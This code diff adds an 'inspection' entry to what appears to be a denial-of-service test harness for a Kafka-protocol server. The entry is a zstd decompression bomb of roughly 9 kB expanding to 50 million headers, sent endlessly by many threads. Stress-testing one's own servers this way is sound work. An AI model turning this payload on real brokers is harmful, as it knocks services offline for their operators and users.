@@ -103,6 +103,23 @@ def _tiny_records(stack: ExitStack, address: str, clients: int) -> Iterator[None
     yield from _flood(stack, address, clients, kafka_bytes.produce("t", TINY, _PRODUCE_BYTES // len(TINY)))
 
 
+def _inspection(stack: ExitStack, address: str, clients: int) -> Iterator[None]:
+    """Compressed batches of 9 kB that hold 50 million headers, each client's next one after its last."""
+    record = kafka_bytes.empty_headers(1_000)
+    bomb = kafka_bytes.produce_packed("t", record * 50_000, 50_000, "zstd") + API_VERSIONS_V0
+
+    def send() -> None:
+        while True:
+            with ExitStack() as own, suppress(OSError, RuntimeError):
+                connection = connect(own, address)
+                while True:
+                    kafka_bytes.answer(connection, bomb)
+
+    for _ in range(clients):
+        Thread(target=send, daemon=True).start()
+    yield from _stand()
+
+
 def _churning(stack: ExitStack, address: str, clients: int) -> Iterator[None]:
     """Connect, send one request and disconnect, as fast as possible."""
 
@@ -150,6 +167,7 @@ ATTACKS: dict[str, Attack] = {
     "dribbling": _dribbling,
     "tiny-records": _tiny_records,
     "churning": _churning,
+    "inspection": _inspection,
     "window-updates": _window_updates,
     "open-streams": _open_streams,
     "half-heads": _half_heads,
